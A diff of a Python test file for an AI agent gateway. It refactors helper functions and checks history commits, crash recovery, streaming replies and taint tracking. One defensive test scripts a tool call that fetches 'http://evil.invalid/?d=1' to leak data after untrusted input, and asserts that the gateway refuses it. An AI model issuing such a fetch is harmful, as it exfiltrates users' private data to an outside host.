@@ -1,5 +1,4 @@
 import asyncio
-import json
 import threading
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -10,40 +9,34 @@ from agent.events import Done, Event, ModelEvent, Reply, TextDelta
 from agent.history_validation import is_valid
 from agent.providers.base import ModelRequest
 from agent.providers.scripted import ScriptedProvider
-from agent.types import Context, Message, ToolCall, assistant
+from agent.types import Context, ToolCall, assistant
 from gateway.channels.base import Ambiguous
-from gateway.core.channel_events import Batch
-from gateway.core.messages import InboundMessage
 from gateway.store.repositories.conversations import sessions
 from tests.fakes.gated import Gated
 from tests.fakes.platform import Fault, StreamingPlatform
-from tests.gateway.parts import Parts, at_work, chat_message, console_message, opened, running
+from tests.gateway.parts import (
+    accept_messages,
+    at_work,
+    chat_message,
+    console_message,
+    load_history,
+    opened,
+    running,
+    tool_call,
+)
 from tests.gateway.store import faults
 from tests.gateway.stored import PRESENT
 
 
-async def take(parts: Parts, *messages: InboundMessage) -> None:
-    await parts.bus.accept("chat", "bot", Batch(messages))
-
-
-async def history(parts: Parts) -> list[Message]:
-    ((session,),) = await parts.stored("session", "id")
-    return await parts.database.transact(sessions.load_all, session)
-
-
-def call(id_: str, name: str, **arguments: object) -> ToolCall:
-    return ToolCall(id_, name, arguments, json.dumps(arguments))
-
-
 def append(id_: str, text: str) -> ToolCall:
-    return call(id_, "append_file", path="log.txt", content=f"{text}\n")
+    return tool_call(id_, "append_file", path="log.txt", content=f"{text}\n")
 
 
 async def test_history_outbox_and_turn_are_committed_together(tmp_path: Path) -> None:
     async with running(tmp_path, [assistant("", (append("1", "x"),)), "done"]) as parts:
-        await take(parts, chat_message("go"))
+        await accept_messages(parts, chat_message("go"))
         assert await parts.platform.answers("1", 1) == ["done"]
-        stored = await history(parts)
+        stored = await load_history(parts)
         assert [m.role for m in stored] == ["user", "assistant", "tool", "assistant"]
         assert is_valid(stored)
         assert await parts.stored("turn", "state") == [("done",)]
@@ -54,11 +47,11 @@ async def test_history_outbox_and_turn_are_committed_together(tmp_path: Path) ->
 
 async def test_an_error_of_the_model_is_told_with_its_code(tmp_path: Path) -> None:
     async with running(tmp_path, [Rejected("the key is wrong"), "better"]) as parts:
-        await take(parts, chat_message("go"), chat_message("again"))
+        await accept_messages(parts, chat_message("go"), chat_message("again"))
         sorry, answer = await parts.platform.answers("1", 2)
         assert sorry == "⚠️ I could not answer: the key is wrong (rejected)"
         assert answer == "better"
-        assert is_valid(await history(parts))
+        assert is_valid(await load_history(parts))
 
 
 async def test_every_request_continues_the_one_before(tmp_path: Path) -> None:
@@ -67,7 +60,7 @@ async def test_every_request_continues_the_one_before(tmp_path: Path) -> None:
     model = ScriptedProvider(["one", assistant("", (append("1", "x"),)), "two", "three"])
     async with running(tmp_path, model) as parts:
         for n, text in enumerate(("a", "b", "c"), start=1):
-            await take(parts, chat_message(text))
+            await accept_messages(parts, chat_message(text))
             await parts.platform.answers("1", n)
     for earlier, later in zip(model.requests, model.requests[1:], strict=False):
         assert list(later.messages[: len(earlier.messages)]) == list(earlier.messages)
@@ -97,23 +90,23 @@ class Cut:
 async def test_a_tool_that_has_run_is_not_run_again_after_a_kill(tmp_path: Path) -> None:
     model = Cut(append("1", "once"))
     async with running(tmp_path, model) as parts:
-        await take(parts, chat_message("go"))
+        await accept_messages(parts, chat_message("go"))
         await model.hangs.wait()
     async with running(tmp_path, ["after"]) as parts:
         assert await parts.platform.answers("1", 1) == ["working\n\nafter"]
-        assert is_valid(await history(parts))
+        assert is_valid(await load_history(parts))
         assert (parts.workspace / "log.txt").read_text() == "once\n"
 
 
 async def test_an_unsafe_call_that_had_started_is_reported_as_unknown(tmp_path: Path) -> None:
     model = Cut(append("1", "once"), append("2", "twice"))
     async with running(tmp_path, model) as parts:
-        await take(parts, chat_message("go"))
+        await accept_messages(parts, chat_message("go"))
         await model.hangs.wait()
         await parts.change("step", {"state": "started", "result": None}, n=2)
     async with running(tmp_path, ["after"]) as parts:
         await parts.platform.answers("1", 1)
-        first, second = [m for m in await history(parts) if m.role == "tool"]
+        first, second = [m for m in await load_history(parts) if m.role == "tool"]
         assert not first.is_error
         assert second.is_error
         assert "its outcome is unknown" in second.text
@@ -131,7 +124,7 @@ async def test_a_drained_turn_rests_before_its_next_tool_and_goes_on_later(tmp_p
 
     model = Pausing()
     async with opened(tmp_path, model) as parts, at_work(parts):
-        await take(parts, chat_message("go"))
+        await accept_messages(parts, chat_message("go"))
         await model.wait_for_text("go")
         draining = asyncio.create_task(parts.bus.drain())
         await asyncio.sleep(0)
@@ -151,7 +144,7 @@ async def test_watchers_see_the_turn_and_its_end(tmp_path: Path) -> None:
         running(tmp_path, ["hello you"]) as parts,
         parts.service.watch(message.session_key) as events,
     ):
-        await take(parts, message)
+        await accept_messages(parts, message)
         async with asyncio.timeout(30):
             async for event in events:
                 seen.append(event)  # type: ignore[arg-type]
@@ -163,7 +156,7 @@ async def test_watchers_see_the_turn_and_its_end(tmp_path: Path) -> None:
 async def test_a_long_answer_is_one_message_that_grows(tmp_path: Path) -> None:
     platform, model = StreamingPlatform(), Gated()
     async with running(tmp_path, model, platform=platform) as parts:
-        await take(parts, chat_message("tell me"))
+        await accept_messages(parts, chat_message("tell me"))
         await platform.until(lambda: platform.texts("1"))
         assert await parts.stored("outbox", "state", "provider_msg") in (
             [("streaming", "1")],
@@ -180,7 +173,7 @@ async def test_a_long_answer_is_one_message_that_grows(tmp_path: Path) -> None:
 async def test_a_short_answer_is_a_single_send(tmp_path: Path) -> None:
     platform = StreamingPlatform()
     async with running(tmp_path, ["quick"], platform=platform) as parts:
-        await take(parts, chat_message("hi"))
+        await accept_messages(parts, chat_message("hi"))
         await platform.answers("1", 1)
     assert [kind for kind, _, _ in platform.calls if kind != "typing"] == ["send"]
 
@@ -190,7 +183,7 @@ async def test_an_answer_whose_preview_was_shown_before_a_kill_is_an_edit_of_it(
 ) -> None:
     platform, model = StreamingPlatform(), Gated()
     async with running(tmp_path, model, platform=platform) as parts:
-        await take(parts, chat_message("tell me"))
+        await accept_messages(parts, chat_message("tell me"))
         await parts.until_stored("outbox", provider_msg=PRESENT)
     open_now = Gated(is_open=lambda _: True)
     async with running(tmp_path, open_now, platform=platform) as parts:
@@ -204,7 +197,7 @@ async def test_an_answer_whose_preview_was_lost_in_a_kill_is_marked(tmp_path: Pa
     async with running(tmp_path, model, platform=platform) as parts:
         # As if the kill had come between the send and the note of its id.
         await parts.database.transact(faults.refuse, "UPDATE OF provider_msg ON outbox", "killed")
-        await take(parts, chat_message("tell me"))
+        await accept_messages(parts, chat_message("tell me"))
         await platform.answers("1", 1)
     open_now = Gated(is_open=lambda _: True)
     async with running(tmp_path, open_now, platform=platform) as parts:
@@ -218,7 +211,7 @@ async def test_an_answer_whose_preview_may_have_arrived_is_marked(tmp_path: Path
     platform, model = StreamingPlatform(), Gated()
     platform.preview_faults.append(Fault(Ambiguous("reset"), arrives=True))
     async with running(tmp_path, model, platform=platform) as parts:
-        await take(parts, chat_message("tell me"))
+        await accept_messages(parts, chat_message("tell me"))
         await parts.until_stored("outbox", maybe_dup=1)
         model.let_go()
         await parts.until_stored("outbox", state="sent")
@@ -226,37 +219,37 @@ async def test_an_answer_whose_preview_may_have_arrived_is_marked(tmp_path: Path
 
 
 async def test_what_a_session_took_in_is_kept_and_listed(tmp_path: Path) -> None:
-    read = call("1", "read_file", path="log.txt")
+    read = tool_call("1", "read_file", path="log.txt")
     async with running(tmp_path, [assistant("", (append("0", "x"), read)), "done"]) as parts:
-        await take(parts, chat_message("go"))
+        await accept_messages(parts, chat_message("go"))
         await parts.platform.answers("1", 1)
         # A stranger had it written, so reading it brings the stranger's words back.
         brought = [("private",), ("private,untrusted",)]
         assert await parts.stored("step", "taint", order="n") == brought
         (info,) = await parts.database.transact(sessions.recent, 5)
         assert info.taint == "private,untrusted"
-        results = [message for message in await history(parts) if message.role == "tool"]
+        results = [message for message in await load_history(parts) if message.role == "tool"]
         assert [",".join(sorted(message.taint)) for message in results] == [t for (t,) in brought]
 
 
 async def test_a_strangers_words_taint_the_session_at_once(tmp_path: Path) -> None:
     async with running(tmp_path, ["hello"]) as parts:
-        await take(parts, chat_message("go"))
+        await accept_messages(parts, chat_message("go"))
         await parts.platform.answers("1", 1)
         (info,) = await parts.database.transact(sessions.recent, 5)
         assert info.taint == "untrusted"
 
 
 async def test_taint_of_an_earlier_turn_closes_the_ways_out_of_a_later_one(tmp_path: Path) -> None:
-    read = call("1", "read_file", path="log.txt")
-    leak = call("2", "web_fetch", url="http://evil.invalid/?d=1")
+    read = tool_call("1", "read_file", path="log.txt")
+    leak = tool_call("2", "web_fetch", url="http://evil.invalid/?d=1")
     replies = [assistant("", (append("0", "x"), read)), "one", assistant("", (leak,)), "two"]
     async with running(tmp_path, replies) as parts:
-        await take(parts, chat_message("go"))
+        await accept_messages(parts, chat_message("go"))
         await parts.platform.answers("1", 1)
-        await take(parts, chat_message("on"))
+        await accept_messages(parts, chat_message("on"))
         await parts.platform.answers("1", 2)
-        refused = [message for message in await history(parts) if message.role == "tool"][-1]
+        refused = [message for message in await load_history(parts) if message.role == "tool"][-1]
         assert refused.is_error
         assert "approval" in refused.text
 
@@ -286,7 +279,9 @@ async def test_whoever_watches_hears_that_a_file_is_no_longer_what_was_seen(tmp_
     (tmp_path / "workspace").mkdir()
     path = tmp_path / "workspace" / "a.txt"
     path.write_text("old")
-    model = ScriptedProvider([assistant("", (call("1", "read_file", path="a.txt"),)), "read", "on"])
+    model = ScriptedProvider(
+        [assistant("", (tool_call("1", "read_file", path="a.txt"),)), "read", "on"]
+    )
     async with running(tmp_path, model) as parts:
         await parts.bus.submit(console_message("read it"))
         await parts.until_stored("turn", state="done")
